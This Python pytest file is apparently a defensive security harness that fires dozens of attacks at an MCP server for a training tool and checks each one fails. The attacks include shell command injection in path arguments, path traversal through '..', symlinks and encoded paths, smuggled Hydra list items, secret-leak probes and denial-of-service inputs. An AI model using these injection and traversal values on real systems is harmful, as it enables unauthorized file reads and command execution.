@attack("code_hydra_plugins_and_callbacks", "hydra/launcher, hydra/sweeper, hydra.callbacks naming modules")
async def _(c):
    await c.call("compose_config", overrides=["+hydra.callbacks.x._target_=pp_evil.fn"])
    await c.call("compose_config", overrides=["hydra/launcher=pp_evil"], multirun=True)
    await c.call("plan_job", overrides=["hydra/sweeper=loopwright", "hydra.sweeper.sampler=pp_evil.fn"], multirun=True)
    await c.call("plan_job", overrides=["sweep=grpo_lr_kl", "hydra.sweeper.sampler={_target_: pp_evil.fn}"],
                 multirun=True)


@attack("code_trust_remote_code", "a project model dir with auto_map, trust_remote_code spelled true/1/yes/on")
async def _(c):
    for v in ("true", "True", "1", "yes", "on", "'true'"):
        await c.call("compose_config", overrides=["model.name_or_path=remote_model", f"model.trust_remote_code={v}"])
    await c.call("plan_job", overrides=["model.name_or_path=remote_model"])


@attack("code_shell_metachars", "shell metacharacters in ingest format/inputs and improve paths (touch a marker)")
async def _(c):
    m = c.wd.markers
    await c.call("ingest", inputs=["logs/ok.jsonl"], output=c.o("st_sh"), format=f"auto;touch {m}/shell1")
    await c.call("ingest", inputs=[f"logs/ok.jsonl;touch {m}/shell2"], output=c.o("st_sh2"))
    await c.call("ingest", inputs=[f"logs/$(touch {m}/shell3).jsonl"], output=c.o("st_sh3"))
    await c.call("improve", transcripts="x", output=c.o("imp_sh"), eval_prompts=f"p`touch {m}/shell4`.jsonl")
    await c.call("improve", transcripts="x", output=c.o(f"imp_sh5 && touch {m}/shell5"))


# -- reads outside the roots --------------------------------------------------------------------------------------
@attack("read_ingest_direct", "ingest an outside file by absolute path, .., ~, file:// and FILE:///")
async def _(c):
    o = c.wd.outside
    for inp in (str(o / "secret.jsonl"), "../outside/secret.jsonl", "~/secret.jsonl", f"file://{o}/secret.jsonl",
                f"FILE://{o}/secret.jsonl", f"file:{o}/secret.jsonl"):
        await c.call("ingest", inputs=[inp], output=c.o("st_direct"))


@attack("read_ingest_link_file", "ingest a project symlink to an outside file")
async def _(c):
    await c.call("ingest", inputs=["link_secret.jsonl"], output=c.o("st_linkfile"))


@attack("read_ingest_dir_with_link", "ingest a project dir that holds a symlink to an outside file")
async def _(c):
    await c.call("ingest", inputs=["logs_linked"], output=c.o("st_linkeddir"))


@attack("read_ingest_dir_with_dirlink", "ingest a project dir whose subdir is a symlink out")
async def _(c):
    await c.call("ingest", inputs=["logs_subdir"], output=c.o("st_subdir"))


@attack("read_ingest_link_dir_paths", "ingest linkdir/secret.jsonl, linkdir/, linkdir/*.jsonl, linkdir/../outside/")
async def _(c):
    for inp in ("linkdir/secret.jsonl", "linkdir", "linkdir/*.jsonl", "linkdir/sub/../secret.jsonl"):
        await c.call("ingest", inputs=[inp], output=c.o("st_linkdir"))


@attack("read_ingest_list_injection", "a path argument that smuggles a second Hydra list item (',', quotes, ']')")
async def _(c):
    o = c.wd.outside
    for inp in (f"logs/ok.jsonl,{o}/secret.jsonl", f"logs/x',{o}/secret.jsonl,'y", f'logs/x",{o}/secret.jsonl,"y',
                f"logs/ok.jsonl],input=[{o}/secret.jsonl", f"logs/ok.jsonl, {o}/secret.jsonl",
                f"logs/a\\,{o}/secret.jsonl"):
        await c.call("ingest", inputs=[inp], output=c.o("st_inject"))
    await c.call("improve", transcripts=f"x,{o}/fake_store.jsonl", output=c.o("imp_inject"))
    await c.call("improve", transcripts="x", output=c.o("imp_inject2"), eval_prompts=f"prompts.jsonl,{o}/prompts.jsonl")


@attack("read_ingest_encoded_paths", "percent-encoded, fullwidth-dot, NUL and newline path tricks")
async def _(c):
    for inp in ("logs/%2e%2e/%2e%2e/outside/secret.jsonl", "%2e%2e/outside/secret.jsonl",
                "\uff0e\uff0e/outside/secret.jsonl", "logs/ok.jsonl\x00/../../outside/secret.jsonl",
                "logs/ok.jsonl\n../outside/secret.jsonl"):
        await c.call("ingest", inputs=[inp], output=c.o("st_enc"))


@attack("read_ingest_hardlink", "ingest a project hard link to an outside file (same inode; arguably inside)")
async def _(c):
    await c.call("ingest", inputs=["hard.jsonl"], output=c.o("st_hard"))


@attack("read_ingest_store_is_link", "ingest into a store whose transcripts.jsonl is a link to an outside store")
async def _(c):
    await c.call("ingest", inputs=["logs/ok.jsonl"], output=str(c.wd.outputs / "store_link"))


@attack("read_improve_transcripts_link", "improve on a dir whose transcripts.jsonl links out; and the link itself")
async def _(c):
    await c.call("improve", transcripts=str(c.wd.outputs / "improve_plant"), output=c.o("imp_plant"))
    await c.call("improve", transcripts=str(c.wd.outputs / "improve_plant" / "transcripts.jsonl"),
                 output=c.o("imp_plant2"))


@attack("read_improve_eval_prompts_and_rubric", "improve eval_prompts / rubric_file outside (abs, link, linkdir)")
async def _(c):
    for ep in (str(c.wd.outside / "prompts.jsonl"), "linkdir/prompts.jsonl", "~/secret.jsonl"):
        await c.call("improve", transcripts=str(c.wd.outputs / "st_control"), output=c.o("imp_ep"), eval_prompts=ep)
    await c.call("improve", transcripts=str(c.wd.outputs / "st_control"), output=c.o("imp_rub"),
                 overrides=["+reward.rubric_file=linkdir/rubric.txt"])


@attack("read_compose_path_values", "task.path/eval.prompts/resume/model.name_or_path outside: abs, .., ~, link, dict")
async def _(c):
    o = c.wd.outside
    for ov in (["task=jsonl", f"task.path={o}/secret.jsonl"], ["task=jsonl", "task.path=linkdir/secret.jsonl"],
               ["task=jsonl", "task.path=link_secret.jsonl"], ["eval.prompts=~/secret.jsonl"],
               [f"resume={o}/fake_run"], ["resume=linkdir/fake_run"], ["model.name_or_path=linkdir/model"],
               ["task=jsonl", f"task.params={{files: ['{o}/secret.jsonl']}}"],
               ["task=jsonl", f"+task.extra=[{{path: '{o}/secret.jsonl'}}]"]):
        await c.call("compose_config", overrides=ov)


@attack("read_compose_globs_through_links", "glob patterns that only expand through a project link (not a path yet)")
async def _(c):
    await c.call("compose_config", overrides=["task=jsonl", "task.path=linkdir/*.jsonl"])
    await c.call("compose_config", overrides=["task=jsonl", "task.path=linkdir/secre?.jsonl"])
    await c.call("compose_config", overrides=["eval.prompts=linkdir/prompt[s].jsonl"])
    await c.call("compose_config", overrides=["task=jsonl", "task.path=l*/secret.jsonl"])


@attack("read_compose_url_schemes", "file:/sqlite:/journal: spellings the check may miss (FILE:, file:/, +pysqlite)")
async def _(c):
    o = c.wd.outside
    for ov in (["task=jsonl", f"task.path=FILE://{o}/secret.jsonl"], ["task=jsonl", f"task.path=file:{o}/secret.jsonl"],
               ["task=jsonl", f"task.path=file://localhost{o}/secret.jsonl"],
               [f"trial.storage=sqlite+pysqlite:///{o}/w1.db"], [f"trial.storage=SQLITE:///{o}/w2.db"],
               [f"trial.storage=journal:{o}/w3.log"], ["trial.storage=sqlite:///w4.db"]):
        await c.call("compose_config", overrides=ov)


@attack("read_config_group_traversal", "list_options group and group=option traversal to an outside yaml")
async def _(c):
    o = c.wd.outside
    await c.call("list_options", group=str(o / "evilgroup"))
    await c.call("list_options", group="model/../../../../../../../../.." + str(o / "evilgroup"))
    await c.call("compose_config", overrides=["model=" + "../" * 12 + str(o / "evil")[1:]])
    await c.call("compose_config", overrides=["+experiment=" + str(o / "evil")])
    await c.call("compose_config", overrides=["model=tiny/" + "../" * 12 + str(o / "evil")[1:]])


@attack("read_provider_ledger", "plan_job with provider.ledger outside ($VAR, linkdir, abs) read for spent money")
async def _(c):
    for led in ("$LW_OUT_DIR/costs.jsonl", "linkdir/costs.jsonl", str(c.wd.outside / "costs.jsonl")):
        await c.call("plan_job", overrides=["provider=runpod", "provider.max_cost=5", "provider.max_cost_total=9",
                                            f"provider.ledger={led}", "seed=1,2"], multirun=True)


@attack("read_mcp_resources_and_prompts", "MCP resources/prompts: list them, read file:// outside, prompts with args")
async def _(c):
    res = await c.raw(c.client.list_resources(), "list_resources")
    await c.raw(c.client.list_resource_templates(), "list_resource_templates")
    await c.raw(c.client.read_resource(f"file://{c.wd.outside}/secret.txt"), "read_resource outside")
    for r in getattr(res, "resources", []) or []:
        await c.raw(c.client.read_resource(r.uri), f"read_resource {r.uri}")
    prompts = await c.raw(c.client.list_prompts(), "list_prompts")
    for p in getattr(prompts, "prompts", []) or []:
        args = {a.name: f"{c.wd.outside}/secret.txt {INTERP}" for a in (p.arguments or [])}
        await c.raw(c.client.get_prompt(p.name, args), f"get_prompt {p.name}")


# -- run and sweep readers over planted dirs ----------------------------------------------------------------------
RUNS = "runs/2026-12-01"


@attack("runs_log_is_link", "run_status of a run whose train.log links to an outside file")
async def _(c):
    await c.call("run_status", run_dir=str(c.wd.outputs / RUNS / "00-00-01"), log_lines=200)


@attack("runs_run_dir_is_link", "every reader on a run dir that is itself a link out")
async def _(c):
    rd = str(c.wd.outputs / RUNS / "00-00-02")
    for tool in ("run_status", "run_metrics", "run_eval", "lineage"):
        await c.call(tool, run_dir=rd)
    await c.call("run_eval", run_dir=rd, records=5)


@attack("runs_launch_json_log", "run_status of a run whose launch.json records a log (and run dir) outside")
async def _(c):
    await c.call("run_status", run_dir=str(c.wd.outputs / RUNS / "00-00-03"), log_lines=200)


@attack("runs_lineage_recorded_outside", "lineage of a manifest whose data/lineage/parent paths lie outside")
async def _(c):
    await c.call("lineage", run_dir=str(c.wd.outputs / RUNS / "00-00-04"))


@attack("runs_lineage_via_improve_summary", "lineage through an inside curated file whose improve_summary points out")
async def _(c):
    await c.call("lineage", run_dir=str(c.wd.outputs / RUNS / "00-00-05"))


@attack("runs_file_links_eval", "run_eval whose eval_results.json links out")
async def _(c):
    await c.call("run_eval", run_dir=str(c.wd.outputs / RUNS / "00-00-06"), records=10)


@attack("runs_metrics_hardlink", "run_metrics whose metrics.jsonl is a hard link of an outside file (arguably inside)")
async def _(c):
    await c.call("run_metrics", run_dir=str(c.wd.outputs / RUNS / "00-00-06"), last=0)


@attack("runs_hydra_dir_link", "run_status/lineage of a run whose .hydra dir links out")
async def _(c):
    rd = str(c.wd.outputs / RUNS / "00-00-07")
    await c.call("run_status", run_dir=rd)
    await c.call("lineage", run_dir=rd)


@attack("runs_sweep_links", "sweep_report of a sweep whose summary/report/results and job 0 link out")
async def _(c):
    await c.call("sweep_report", sweep_dir=str(c.wd.outputs / "multirun" / "2026-12-01" / "00-00-10"))


@attack("runs_list_runs", "list_runs over all the planted runs (links, launch.json, env values)")
async def _(c):
    await c.call("list_runs", limit=500)


@attack("runs_dir_arguments_outside", "readers given outside dirs: abs, .., ~, file://, linkdir, the outputs' parent")
async def _(c):
    o = c.wd.outside
    for rd in (str(o / "fake_run"), "../outside/fake_run", "~/../outside/fake_run", f"file://{o}/fake_run",
               "linkdir/fake_run", str(c.wd.outputs / ".." / "outside" / "fake_run"),
               "%2e%2e/outside/fake_run", "linkdir/fake_run/\x00"):
        await c.call("run_status", run_dir=rd)
    await c.call("sweep_report", sweep_dir=str(o / "fake_run"))
    await c.call("run_metrics", run_dir="linkdir/fake_run", keys=["note"])
    await c.call("lineage", run_dir=str(o / "fake_run"))


# -- writes outside the outputs dir -------------------------------------------------------------------------------
@attack("write_ingest_output_outside", "ingest output outside: abs, .., the project dir, ~")
async def _(c):
    for out in (str(c.wd.outside / "w_abs"), str(c.wd.outputs / ".." / "outside" / "w_dotdot"), "w_project",
                str(c.wd.project / "w_project2"), "~/w_home"):
        await c.call("ingest", inputs=["logs/ok.jsonl"], output=out)


@attack("write_ingest_output_via_link", "ingest output through an outputs link to an outside dir (new subdir)")
async def _(c):
    await c.call("ingest", inputs=["logs/ok.jsonl"], output=str(c.wd.outputs / "outlink" / "store"))
    await c.call("ingest", inputs=["logs/ok.jsonl"], output=str(c.wd.outputs / "outlink"))


@attack("write_ingest_report_link", "ingest into a store whose ingest_report.json links to an outside file")
async def _(c):
    await c.call("ingest", inputs=["logs/ok.jsonl"], output=str(c.wd.outputs / "store_report"))


@attack("write_improve_output_links", "improve into a dir whose curated.jsonl / next_steps.md link out; output outside")
async def _(c):
    await c.call("improve", transcripts=str(c.wd.outputs / "st_control"), output=str(c.wd.outputs / "improve_out"))
    await c.call("improve", transcripts=str(c.wd.outputs / "st_control"), output=str(c.wd.outside / "imp_abs"))
    await c.call("improve", transcripts=str(c.wd.outputs / "st_control"), output="imp_project_rel")


@attack("write_compose_side_files", "compose/plan keys that could create files: storage dbs, hydra dirs/log files")
async def _(c):
    for ov in (["trial.storage=sqlite:///proj_w.db"], ["trial.storage=$LW_OUT_DIR/w5.db"],
               ["hydra.run.dir=$LW_OUT_DIR/hrun"], ["hydra.job_logging.handlers.file.filename=$LW_OUT_DIR/h.log"],
               ["hydra.output_subdir=$LW_OUT_DIR/hsub"], ["hydra.job.chdir=true", "hydra.run.dir=hrun_proj"],
               ["provider=runpod", "provider.ledger=$LW_OUT_DIR/newledger.jsonl", "provider.max_cost=5"]):
        await c.call("plan_job", overrides=ov)


@attack("write_launch_readonly", "launch on the read-only server (plain, sweep=true, a secret in its overrides)")
async def _(c):
    s = c.secret()
    await c.call("launch", overrides=["model=tiny", "profile=smoke"])
    await c.call("launch", overrides=["model=tiny", "profile=smoke", "seed=1,2"], sweep=True)
    await c.call("launch", overrides=[f"+x.hf_token={s}", "reward._target_=pp_evil.Reward"])


# -- secrets the client sends -------------------------------------------------------------------------------------
@attack("secret_plain_keys", "secrets under many secret-named keys, echoed in config/command")
async def _(c):
    keys = ["hf_token", "github_pat", "proxy_auth", "client_secret", "db_passwd", "apikey", "HF_TOKEN",
            "Aws_Secret_Access_Key", "credentials", "api_key_2", "MY_API_KEY", "password", "secret"]
    await c.call("compose_config", overrides=[f"+x.{k}={c.secret()}" for k in keys])


@attack("secret_nested_and_lists", "secrets in nested dicts and list items under secret-named keys")
async def _(c):
    await c.call("compose_config", overrides=[f"+x={{db: {{password: {c.secret()}}}, "
                                              f"hf_token: [{c.secret()}, {c.secret()}]}}"])
    await c.call("compose_config", overrides=[f"+x.hf_token=[{c.secret()},{{inner: {c.secret()}}}]"])
    await c.call("compose_config", overrides=[f"+x.creds=[{{api_key: {c.secret()}}}]"])


@attack("secret_sweep_values", "secrets as sweep values: comma list, choice(), range-free sweeps in plan_job")
async def _(c):
    await c.call("compose_config", overrides=[f"+x.hf_token={c.secret()},{c.secret()},{c.secret()}"], multirun=True)
    await c.call("plan_job", overrides=[f"+x.api_key_2=choice({c.secret()},{c.secret()})", "seed=1,2"], multirun=True)
    await c.call("compose_config", overrides=[f"+x.github_pat=glob({c.secret()})"], multirun=True)


@attack("secret_error_echoes", "errors that echo the value: struct error, ~delete mismatch, type errors, bad option")
async def _(c):
    await c.call("compose_config", overrides=[f"reward.api_key={c.secret()}"])
    a, b = c.secret(), c.secret()
    await c.call("compose_config", overrides=[f"+x.hf_token={a}", f"~x.hf_token={b}"])
    await c.call("compose_config", overrides=[f"+x.hf_token={c.secret()}", "profile.max_steps=notanint"])
    await c.call("compose_config", overrides=[f"+x.hf_token={c.secret()}", "model=nope_model"])
    await c.call("compose_config", overrides=[f"+x.hf_token={c.secret()}", "+x.hf_token=again"])
    await c.call("compose_config", overrides=[f"x.hf_token={c.secret()}"])
    await c.call("compose_config", overrides=[f"+x.hf_token='{c.secret()}", "seed=1"])


@attack("secret_quoting_forms", "secrets quoted, with spaces, escaped, in ++ and @package forms")
async def _(c):
    await c.call("compose_config", overrides=[f"+x.hf_token='{c.secret()}'", f"++x.api_key=\"{c.secret()}\"",
                                              f"+x.auth_token='a {c.secret()} b'", f"+x.secret_key={c.secret()}\\,z"])


@attack("secret_improve_echo", "improve overrides carrying secrets: unknown key errors from the improve process")
async def _(c):
    await c.call("improve", transcripts=str(c.wd.outputs / "st_control"), output=c.o("imp_sec"),
                 overrides=[f"reward.hf_token={c.secret()}"])
    await c.call("improve", transcripts=str(c.wd.outputs / "st_control"), output=c.o("imp_sec2"),
                 overrides=[f"+reward.params.api_key={c.secret()}", f"+task.params.github_pat={c.secret()}"])
    await c.call("improve", transcripts=str(c.wd.outputs / "st_control"), output=c.o("imp_sec3"),
                 overrides=[f"task.params.db_password={c.secret()}"])


@attack("secret_url_password", "a password inside a URL value (docs: passwords in URLs are redacted)")
async def _(c):
    await c.call("compose_config", overrides=[f"+x.dsn=postgres://user:{c.secret()}@db.invalid/x",
                                              f"notes=https://u:{c.secret()}@h.invalid/p"])


@attack("secret_env_values_in_ingest_errors", "logs whose malformed fields (role, id) hold the env's secret values")
async def _(c):
    await c.call("ingest", inputs=["logs_env"], output=c.o("st_env"))
    await c.call("improve", transcripts=str(c.wd.outputs / "st_env"), output=c.o("imp_env2"))


@attack("secret_env_values_in_run_files", "planted run/manifest/log holding the env's secret values, every reader")
async def _(c):
    r8 = str(c.wd.outputs / RUNS / "00-00-08")
    await c.call("run_status", run_dir=r8, log_lines=200)
    await c.call("list_runs", limit=50)


# -- denial of service (last: a hung call could block the rest) ----------------------------------------------------
@attack("dos_deep_nesting", "an override value nested 3000 levels deep", dos=True)
async def _(c):
    await c.call("compose_config", overrides=["+x=" + "{a:" * 3000 + "1" + "}" * 3000])
    await c.call("compose_config", overrides=["+x=" + "[" * 3000 + "1" + "]" * 3000])


@attack("dos_huge_value", "an 8 MB override value and an 8 MB path argument", dos=True)
async def _(c):
    await c.call("compose_config", overrides=["notes=" + "a" * 8_000_000])
    await c.call("run_status", run_dir="x" * 8_000_000)


@attack("dos_many_overrides", "20000 overrides in one call", dos=True)
async def _(c):
    await c.call("compose_config", overrides=[f"+x.k{i}={i}" for i in range(20000)])


@attack("dos_big_sweep", "a 200000-job sweep (range) and a 360000-job cross product", dos=True)
async def _(c):
    await c.call("compose_config", overrides=["seed=range(0,200000)"], multirun=True)
    await c.call("plan_job", overrides=["seed=range(0,600)", "task.seed=range(0,600)"], multirun=True)


# ---------------------------------------------------------------------------------------------- the session run
@dataclass
class Measured:
    world: World
    outcomes: dict[str, Outcome]
    controls: dict[str, Any]
    server_env: dict[str, str]
    total_s: float


def build_env(wd: World) -> dict[str, str]:
    env = dict(os.environ)
    for k in ("HF_HUB_OFFLINE", "WANDB_MODE", "TRANSFORMERS_OFFLINE", "HF_DATASETS_OFFLINE", "NO_PROXY", "no_proxy"):
        env.pop(k, None)
    url = wd.catcher.url
    env.update({name: env_value(name) for name in SECRET_ENV_NAMES})
    env.update({
        BLAND_NAME: BLAND_VALUE, "LW_RESOLVE_PROBE": RESOLVE_PROBE, "LW_OUT_DIR": str(wd.outside),
        "PYTHONPATH": os.pathsep.join([str(ROOT / "src"), str(wd.pp)]), "PYTHONDONTWRITEBYTECODE": "1",
        "HOME": str(wd.home), "TMPDIR": str(wd.tmpdir), "LOOPWRIGHT_CACHE": str(wd.root / "cache"),
        "HF_HOME": str(wd.root / "hfhome"), "XDG_CACHE_HOME": str(wd.root / "cache"),
        "HTTP_PROXY": url, "HTTPS_PROXY": url, "http_proxy": url, "https_proxy": url, "ALL_PROXY": url,
        "all_proxy": url, "HF_ENDPOINT": url, "WANDB_BASE_URL": url, "OPENAI_BASE_URL": url + "/v1",
        "OPENAI_API_BASE": url + "/v1", "ANTHROPIC_BASE_URL": url, "MODAL_SERVER_URL": url,
        "RAY_ADDRESS": f"127.0.0.1:{wd.catcher.port}", "RUNPOD_API_URL": url, "RUNPOD_GRAPHQL_URL": url,
        "TOKENIZERS_PARALLELISM": "false",
    })
    return env


def server_environ_from_proc(project: Path) -> dict[str, str]:
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            cmd = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            if b"loopwright.mcp" in cmd and str(project).encode() in cmd:
                raw = Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
                return dict(x.decode(errors="replace").split("=", 1) for x in raw if b"=" in x)
        except OSError:
            continue
    return {}


async def play(wd: World) -> Measured:
    from mcp import ClientSession, StdioServerParameters, stdio_client

    env = build_env(wd)
    params = StdioServerParameters(command=sys.executable, cwd=str(wd.project), env=env,
                                   args=["-m", "loopwright.mcp", "--project", str(wd.project),
                                         "--outputs", str(wd.outputs)])
    outcomes: dict[str, Outcome] = {}
    controls: dict[str, Any] = {}
    t0 = time.monotonic()
    with open(wd.root.parent / f"{wd.root.name}_server.err", "a") as errlog:
        async with stdio_client(params, errlog=errlog) as (read, write), ClientSession(read, write) as client:
            await client.initialize()
            seen_env = server_environ_from_proc(wd.project)
            base = Ctx(wd, client)
            # controls (positive): inside content comes back; ingest copies inside content into the outputs dir
            await base.call("run_status", run_dir=str(wd.outputs / RUNS / "00-00-09"), log_lines=20)
            await base.call("ingest", inputs=["logs/ok.jsonl"], output=base.o("st_control"))
            controls["inside_log_reply"] = INSIDE_CANARY in "".join(base.texts)
            controls["inside_copied"] = any(INSIDE_CANARY in t for k, t in outputs_text(wd).items()
                                            if k.startswith(str(wd.outputs / "st_control")))
            controls["control_replies"] = [t[:600] for t in base.texts]
            before = snapshot(wd)
            reset_atimes(wd)
            for atk in ATTACKS:
                ctx = Ctx(wd, client)
                ctx.timeout = DOS_TIMEOUT if atk.dos else CALL_TIMEOUT
                mark = wd.catcher.mark()
                markers_before = set(os.listdir(wd.markers))
                out_before = {k for k, v in outputs_text(wd).items() if FILE_CANARY in v or RESOLVE_PROBE in v}
                t1 = time.monotonic()
                try:
                    await atk.fn(ctx)
                except Exception as exc:  # an attack's own bug must not stop the others
                    ctx.texts.append(f"<attack raised {type(exc).__name__}: {exc}>")
                await asyncio.sleep(0.3)
                oc = Outcome(seconds=time.monotonic() - t1, dos=list(ctx.dos))
                if ctx.dos:  # wait until the server answers again, so the next attack is not blamed for this one
                    t2 = time.monotonic()
                    answered = False
                    while not answered and time.monotonic() - t2 < RECOVERY_WAIT:
                        try:
                            await asyncio.wait_for(client.call_tool("list_options", {"group": "model"}), 15)
                            answered = True
                        except asyncio.TimeoutError:
                            continue
                    oc.notes.append(f"server answered again {time.monotonic() - t2:.0f} s after the attack ended"
                                    if answered else f"server still busy {RECOVERY_WAIT:.0f} s after the attack ended")
                for text in ctx.texts:
                    leaks, notes = scan_text(text, ctx.all_client_secrets)
                    oc.leaks += leaks
                    oc.notes += notes
                got = wd.catcher.since(mark)
                if got:
                    oc.leaks.append(f"network: {len(got)} connection(s) to the catcher, first: {got[0][:160]!r}")
                for m in sorted(set(os.listdir(wd.markers)) - markers_before):
                    oc.leaks.append(f"code ran: marker {m}")
                if wd.atime_works:
                    for path, old in wd.tracked.items():
                        if os.stat(path).st_atime_ns != old:
                            oc.leaks.append(f"read outside the roots: {path.relative_to(wd.root)}")
                after = snapshot(wd)
                for path in sorted(set(after) | set(before)):
                    if after.get(path) != before.get(path):
                        what = "created" if path not in before else ("removed" if path not in after else "changed")
                        oc.leaks.append(f"write outside the outputs dir: {what} {Path(path).relative_to(wd.root)}")
                before = after
                reset_atimes(wd)
                for path, text in outputs_text(wd).items():
                    if path in out_before:
                        continue
                    if FILE_CANARY in text:
                        oc.leaks.append(f"outside content copied into {Path(path).relative_to(wd.root)}")
                    if RESOLVE_PROBE in text:
                        oc.leaks.append(f"resolved interpolation written into {Path(path).relative_to(wd.root)}")
                oc.leaks = list(dict.fromkeys(oc.leaks))
                oc.notes = list(dict.fromkeys(oc.notes))
                oc.replies = [t[:700] for t in ctx.texts]
                outcomes[atk.name] = oc
                if os.environ.get("BLIND2_DUMP"):  # the measurement survives a timeout of the fixture
                    Path(os.environ["BLIND2_DUMP"]).write_text(json.dumps({"controls": controls, "atime": wd.atime_note,
                        "attacks": {n: vars(o) for n, o in outcomes.items()}}, indent=1))
    return Measured(wd, outcomes, controls, seen_env, time.monotonic() - t0)


@pytest.fixture(scope="module")
def measured(tmp_path_factory) -> Measured:
    root = tmp_path_factory.mktemp("blind2")
    catcher = Catcher()
    wd = build_world(root, catcher)
    atime_self_test(wd)
    result = asyncio.run(play(wd))
    report = {name: {"leaks": o.leaks, "dos": o.dos, "notes": o.notes, "seconds": round(o.seconds, 1),
                     "replies": o.replies} for name, o in result.outcomes.items()}
    dump = os.environ.get("BLIND2_DUMP")
    if dump:
        Path(dump).write_text(json.dumps({"controls": result.controls, "atime": wd.atime_note,
                                          "total_s": round(result.total_s, 1), "attacks": report}, indent=1))
    return result


# ------------------------------------------------------------------------------------------------------- the tests
# Attacks that succeeded on the measured tree (e1a38d6): name -> what leaked. xfail(strict=True) keeps them recorded.
# The 11 attacks that succeeded when this set was measured (e1a38d6; RESULTS.md) were fixed afterwards, knowing
# them (a fit). An entry here marks an attack as an expected failure (xfail, strict).
OPEN_LEAKS: dict[str, str] = {}


def _params():
    for atk in ATTACKS:
        marks = [pytest.mark.xfail(strict=True, reason=OPEN_LEAKS[atk.name])] if atk.name in OPEN_LEAKS else []
        yield pytest.param(atk.name, id=atk.name, marks=marks)


@pytest.mark.parametrize("name", list(_params()))
def test_attack_fails(measured: Measured, name: str) -> None:
    oc = measured.outcomes[name]
    problems = oc.leaks + [f"denial of service: {d}" for d in oc.dos]
    assert not problems, f"{name} succeeded: {problems}\nreplies: {oc.replies[:3]}"


def test_at_least_fifty_distinct_attacks() -> None:
    names = [a.name for a in ATTACKS]
    assert len(names) == len(set(names)) and len(names) >= 50


# -- self-checks of the detectors ----------------------------------------------------------------------------------
def test_selfcheck_server_had_the_canaries(measured: Measured) -> None:
    env = measured.server_env
    assert env, "the server process was not found in /proc"
    for name in SECRET_ENV_NAMES:
        assert env.get(name) == env_value(name)
    assert env.get(BLAND_NAME) == BLAND_VALUE and env.get("HTTPS_PROXY") == measured.world.catcher.url
    assert "HF_HUB_OFFLINE" not in env


def test_selfcheck_reply_scanner() -> None:
    for name in SECRET_ENV_NAMES:
        assert scan_text(f"x {env_value(name)} y", [])[0]
    assert scan_text(f"..{FILE_CANARY}..", [])[0] and scan_text(RESOLVE_PROBE, [])[0]
    assert scan_text("abc clisecXYZ", ["clisecXYZ"])[0] and not scan_text("nothing here", ["clisecXYZ"])[0]
    assert scan_text(BLAND_VALUE, [])[1] and not scan_text(BLAND_VALUE, [])[0]


def test_selfcheck_replies_and_copies_carry_content(measured: Measured) -> None:
    """Positive controls through the server: a planted log line comes back; ingest copies inside content."""
    assert measured.controls["inside_log_reply"], measured.controls["control_replies"]
    assert measured.controls["inside_copied"], measured.controls["control_replies"]


def test_selfcheck_catcher(measured: Measured) -> None:
    catcher = measured.world.catcher
    mark = catcher.mark()
    with socket.create_connection(("127.0.0.1", catcher.port), timeout=5) as s:
        s.sendall(b"GET /selfcheck HTTP/1.1\r\nHost: x\r\n\r\n")
        s.recv(100)
    deadline = time.monotonic() + 5
    while not catcher.since(mark) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert b"/selfcheck" in b"".join(catcher.since(mark))


def test_selfcheck_markers(measured: Measured) -> None:
    wd = measured.world
    before = set(os.listdir(wd.markers))
    for mod, where in (("pp_evil", wd.pp), ("proj_evil", wd.project)):
        subprocess.run([sys.executable, "-c", f"import {mod}"], cwd=str(wd.project), check=True,
                       env=dict(build_env(wd), PYTHONPATH=str(wd.pp)))
    new = set(os.listdir(wd.markers)) - before
    assert any(m.startswith("pp_evil-") for m in new) and any(m.startswith("proj_evil-") for m in new)
    subprocess.run(["sh", "-c", f"touch {wd.markers}/shell_selfcheck"], check=True)
    assert (wd.markers / "shell_selfcheck").exists()


def test_selfcheck_writes_outside(measured: Measured) -> None:
    wd = measured.world
    before = snapshot(wd)
    (wd.project / "selfcheck_created.txt").write_text("x")
    (wd.tmpdir / "selfcheck_tmp.txt").write_text("x")
    after = snapshot(wd)
    assert {str(wd.project / "selfcheck_created.txt"), str(wd.tmpdir / "selfcheck_tmp.txt")} <= set(after) - set(before)


def test_selfcheck_atime_reads(measured: Measured) -> None:
    wd = measured.world
    if not wd.atime_works:
        pytest.skip(wd.atime_note)
    reset_atimes(wd)
    target = wd.outside / "secret.txt"
    old = wd.tracked[target]
    subprocess.run(["cat", str(target)], stdout=subprocess.DEVNULL, check=True)
    assert os.stat(target).st_atime_ns != old
    reset_atimes(wd)


def test_report_bland_env_value(measured: Measured) -> None:
    """Not a failure: the docs scrub by name, so a secret-looking value under a bland name is not promised."""
    shown = [n for n, o in measured.outcomes.items() if o.notes]
    print(f"bland ${BLAND_NAME}'s value came back in: {shown or 'no reply'}")
